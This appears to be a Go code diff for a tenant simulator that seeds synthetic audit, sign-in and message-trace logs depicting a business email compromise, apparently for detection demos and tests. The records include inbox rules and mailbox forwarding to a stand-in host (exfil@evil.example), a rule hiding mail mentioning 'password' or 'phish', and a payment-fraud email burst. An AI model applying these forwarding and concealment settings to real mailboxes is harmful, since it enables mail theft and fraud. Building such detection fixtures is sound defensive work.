@@ -1,0 +1,73 @@
+package tenantsim
+
+import (
+	"fmt"
+	"time"
+)
+
+// The attacker of the demo tenant's story; tests and `make demo` look for these.
+const (
+	AttackerIP       = "198.51.100.23"
+	AttackerIPv6     = "2001:db8:bad::7"
+	AttackerCountry  = "NG"
+	AttackerCountry2 = "RU"
+	HomeIP           = "203.0.113.10"
+	HomeIPv6         = "2001:db8:10::25"
+	// AttackBurst is how many messages to external recipients the attacker sent.
+	AttackBurst = 45
+)
+
+// seedAttackStory writes what the unified audit log, the sign-in logs, the directory audit
+// log and the message trace would hold for the demo user: six days of ordinary sign-ins
+// from Seattle, then, about three hours ago, failed and successful sign-ins from Lagos and
+// Moscow, an authenticator registered and an app consented from the attacker's address,
+// the forwarding rules and mailbox forwarding created from it, and a burst of mail to
+// external recipients.
+func seedAttackStory(s *Sim, d Demo) {
+	now := time.Now().UTC().Truncate(time.Minute)
+	ago := func(dur time.Duration) time.Time { return now.Add(-dur) }
+	user := d.UserID
+
+	for day := 6; day >= 1; day-- {
+		morning := ago(time.Duration(day)*24*time.Hour + 2*time.Hour)
+		s.AddSignIn(SignIn{UserID: user, Time: morning, App: "Office 365 Exchange Online", ClientApp: "Browser", IP: HomeIP, City: "Seattle", State: "Washington", Country: "US"})
+		s.AddSignIn(SignIn{UserID: user, Time: morning.Add(5 * time.Hour), App: "Microsoft Teams", ClientApp: "Mobile Apps and Desktop clients", IP: HomeIPv6, City: "Seattle", State: "Washington", Country: "US"})
+		for i := 0; i < 3; i++ {
+			s.AddSentMessage(SentMessage{Sender: d.UPN, Time: morning.Add(time.Duration(i+1) * time.Hour), Subject: fmt.Sprintf("Project Falcon update %d", i+1),
+				Recipients: []string{d.ManagerUPN, d.AssistantUPN}, FromIP: HomeIP})
+		}
+		s.AddSentMessage(SentMessage{Sender: d.UPN, Time: morning.Add(4 * time.Hour), Subject: "Order confirmation", Recipients: []string{"orders@fabrikam.example"}, FromIP: HomeIP})
+	}
+
+	// The attack.
+	for i := 0; i < 3; i++ {
+		s.AddSignIn(SignIn{UserID: user, Time: ago(3*time.Hour - time.Duration(i)*time.Minute), App: "OfficeHome", ClientApp: "Browser",
+			IP: AttackerIP, City: "Lagos", State: "Lagos", Country: AttackerCountry, ErrorCode: 50126,
+			FailureReason: "Error validating credentials due to invalid username or password."})
+	}
+	s.AddSignIn(SignIn{UserID: user, Time: ago(2*time.Hour + 50*time.Minute), App: "OfficeHome", ClientApp: "Browser",
+		IP: AttackerIP, City: "Lagos", State: "Lagos", Country: AttackerCountry, Risk: "medium"})
+	s.AddSignIn(SignIn{UserID: user, Time: ago(2*time.Hour + 25*time.Minute), App: "Office 365 Exchange Online", ClientApp: "Browser",
+		IP: AttackerIPv6, City: "Moscow", State: "Moscow", Country: AttackerCountry2})
+
+	s.AddDirectoryAudit(DirectoryAudit{Time: ago(2*time.Hour + 45*time.Minute), Activity: "User registered security info", Category: "UserManagement",
+		Service: "Authentication Methods", InitiatorID: user, InitiatorUPN: d.UPN, IP: AttackerIP, TargetID: user, TargetName: d.UPN, TargetType: "User"})
+	s.AddDirectoryAudit(DirectoryAudit{Time: ago(2*time.Hour + 40*time.Minute), Activity: "Consent to application", Category: "ApplicationManagement",
+		Service: "Core Directory", InitiatorID: user, InitiatorUPN: d.UPN, IP: AttackerIP, TargetID: "c0ffee00-0000-4000-8000-00000000c0de", TargetName: "Mail Sync Pro", TargetType: "ServicePrincipal"})
+	// Something the helpdesk did to the user a week ago: target, not initiator.
+	s.AddDirectoryAudit(DirectoryAudit{Time: ago(6*24*time.Hour + 3*time.Hour), Activity: "Update user", Category: "UserManagement",
+		Service: "Core Directory", InitiatorID: d.ManagerID, InitiatorUPN: d.ManagerUPN, IP: "", TargetID: user, TargetName: d.UPN, TargetType: "User"})
+
+	s.AddAuditRecord(AuditRecord{UserID: d.UPN, Time: ago(2*time.Hour + 30*time.Minute), Operation: "New-InboxRule", ClientIP: AttackerIP + ":50412",
+		ObjectID: d.UPN + `\Sync`, Parameters: [][2]string{{"Mailbox", d.UPN}, {"Name", "Sync"}, {"ForwardTo", "exfil@evil.example"}, {"StopProcessingRules", "True"}}})
+	s.AddAuditRecord(AuditRecord{UserID: d.UPN, Time: ago(2*time.Hour + 28*time.Minute), Operation: "New-InboxRule", ClientIP: AttackerIP + ":50419",
+		ObjectID: d.UPN + `\.`, Parameters: [][2]string{{"Mailbox", d.UPN}, {"Name", "."}, {"MoveToFolder", "RSS Feeds"}, {"MarkAsRead", "True"}, {"SubjectOrBodyContainsWords", "password;hacked;phish"}}})
+	s.AddAuditRecord(AuditRecord{UserID: d.UPN, Time: ago(2*time.Hour + 20*time.Minute), Operation: "Set-Mailbox", ClientIP: "[" + AttackerIPv6 + "]:443",
+		ObjectID: d.UPN, Parameters: [][2]string{{"Identity", d.UPN}, {"ForwardingSmtpAddress", "smtp:exfil@evil.example"}, {"DeliverToMailboxAndForward", "True"}}})
+
+	burst := ago(1*time.Hour + 30*time.Minute).Truncate(time.Hour).Add(5 * time.Minute)
+	for i := 0; i < AttackBurst; i++ {
+		s.AddSentMessage(SentMessage{Sender: d.UPN, Time: burst.Add(time.Duration(i) * 30 * time.Second), Subject: "Updated payment details",
+			Recipients: []string{fmt.Sprintf("accounts%02d@vendor%d.example", i, i%9)}, FromIP: AttackerIP})
+	}
+}
